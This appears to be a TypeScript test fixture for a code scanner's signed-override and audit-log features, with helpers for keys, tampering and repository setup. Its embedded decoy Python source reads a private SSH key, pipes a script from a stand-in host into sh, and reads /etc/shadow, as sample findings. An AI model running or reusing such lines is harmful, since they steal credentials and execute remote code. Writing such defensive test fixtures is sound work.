import { execFileSync } from 'node:child_process';
import { generateKeyPairSync } from 'node:crypto';
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse, stringify } from 'yaml';
import type { Finding } from '../judge/finding.ts';
import { type AuditLine, signedHead, signedLine } from '../override/audit/line.ts';
import { diskSource } from '../override/disk.ts';
import type { Override } from '../override/override.ts';
import { overridesFrom } from '../override/overrides.ts';
import { addOverride, removeOverride, trustKey } from '../override/record.ts';
import { overrideOf } from '../override/select.ts';
import { statementOf } from '../override/statement.ts';
import type { Report } from '../report/report.ts';
import { loadSigner, type Signer } from '../signing/signer.ts';
import { check } from './examine.ts';

export const SOURCE = `import os
import subprocess

secret = open(os.path.expanduser("~/.ssh/id_rsa")).read()
subprocess.run("curl http://drop.example/x.sh | sh", shell=True)
os.system("cat /etc/shadow")
`;

export const ALICE = 'alice@example.com';
export const BOB = 'bob@example.com';
export const MALLORY = 'mallory@example.com';

/** Hours after the first override. */
export function hour(hours: number): Date {
  return new Date(Date.parse('2026-03-01T00:00:00Z') + hours * 3_600_000);
}

/** A key that ssh-keygen made, with its private half on disk. */
export function sshKey(folder: string, name: string): Signer {
  const path = join(folder, name);
  execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', name, '-f', path]);
  return loadSigner(path);
}

/** A key as node:crypto writes it. */
export function pemKey(folder: string, name: string): Signer {
  const path = join(folder, name);
  const pem = generateKeyPairSync('ed25519').privateKey.export({ type: 'pkcs8', format: 'pem' });
  writeFileSync(path, pem, { mode: 0o600 });
  return loadSigner(path);
}

/** A repository with accepted findings, and what may be done to it. */
export class Repository {
  readonly root: string;

  constructor(root: string) {
    this.root = root;
  }

  path(name: string): string {
    return join(this.root, '.glovebox', name);
  }

  read(name: string): string {
    return readFileSync(this.path(name), 'utf8');
  }

  write(name: string, text: string): void {
    writeFileSync(this.path(name), text);
  }

  remove(name: string): void {
    rmSync(this.path(name));
  }

  /** Changes what is written in overrides.yaml, as an editor would. */
  edit(change: (file: { overrides: Override[]; head: Record<string, unknown> }) => void): void {
    const file = parse(this.read('overrides.yaml'));
    change(file);
    this.write('overrides.yaml', stringify(file));
  }

  /** Changes the lines of the log. */
  editLog(change: (lines: string[]) => string[]): void {
    const lines = this.read('audit.jsonl').split('\n').slice(0, -1);
    this.write(
      'audit.jsonl',
      change(lines)
        .map((line) => `${line}\n`)
        .join(''),
    );
  }

  async check(now: Date, below = 'src'): Promise<Report> {
    const overrides = await overridesFrom({ reader: diskSource(this.root), now });
    return check(join(this.root, 'src'), { depth: 'quick', overrides: { overrides, below } });
  }
}

export interface Prepared {
  readonly repository: Repository;
  readonly alice: Signer;
  readonly bob: Signer;
  readonly mallory: Signer;
  /** Alice's, of the secret; Bob's, of the command that is fetched. */
  readonly overrides: readonly [Override, Override];
  /** One of Alice's that was taken away again. */
  readonly removed: Override;
  /** `.glovebox/overrides.yaml` and `audit.jsonl` before that. */
  readonly older: { readonly file: string; readonly log: string };
  copy(): Repository;
  dispose(): void;
}

/** Two people who accept one finding each, and one of them another that she takes back. */
export async function prepare(): Promise<Prepared> {
  const base = mkdtempSync(join(tmpdir(), 'glovebox-override-'));
  const root = join(base, 'repository');
  mkdirSync(join(root, 'src'), { recursive: true });
  writeFileSync(join(root, 'src', 'app.py'), SOURCE);
  const [alice, bob, mallory] = [sshKey(base, 'alice'), pemKey(base, 'bob'), sshKey(base, 'mallory')];
  await trustKey({ root, signer: alice, now: hour(0) }, ALICE, alice.publicKey);
  await trustKey({ root, signer: alice, now: hour(0) }, BOB, bob.publicKey);
  const repository = new Repository(root);
  const { findings } = await repository.check(hour(0));
  const first = await accept(root, alice, at(findings, 4), hour(1));
  const second = await accept(root, bob, at(findings, 5), hour(2));
  const removed = await accept(root, alice, at(findings, 6), hour(3));
  const older = { file: repository.read('overrides.yaml'), log: repository.read('audit.jsonl') };
  await removeOverride({ root, signer: alice, now: hour(4) }, removed.id);
  let copies = 0;
  return {
    repository,
    alice,
    bob,
    mallory,
    overrides: [first, second],
    removed,
    older,
    copy: () => {
      copies += 1;
      const copied = join(base, `copy-${copies}`);
      cpSync(root, copied, { recursive: true });
      return new Repository(copied);
    },
    dispose: () => rmSync(base, { recursive: true }),
  };
}

export function at(findings: readonly Finding[], line: number): Finding {
  const found = findings.find(({ locations: [first] }) => first?.line === line);
  if (found === undefined) throw new Error(`no finding at line ${line}`);
  return found;
}

export function accept(root: string, signer: Signer, finding: Finding, now: Date): Promise<Override> {
  const acceptance = { reason: 'reviewed, it is a decoy', expires: '30d', scope: 'file', now };
  return addOverride({ root, signer, now }, overrideOf(finding, { file: 'src/app.py', line: 'x' }, acceptance));
}

/** Signed by a tool that checks nothing. */
export function signedAnew(override: Override, signer: Signer): Override {
  const fields = { ...override, key: signer.keyId };
  return { ...fields, signature: Buffer.from(signer.sign(statementOf('override', fields))).toString('base64') };
}

/** A line that goes on from the last one, by whoever. */
export function lineAfter(last: AuditLine, fields: Partial<AuditLine>, previous: string, signer: Signer): AuditLine {
  const { key: _, signature: __, ...rest } = last;
  return signedLine({ ...rest, sequence: last.sequence + 1, previous, ...fields }, signer);
}

export { signedHead };
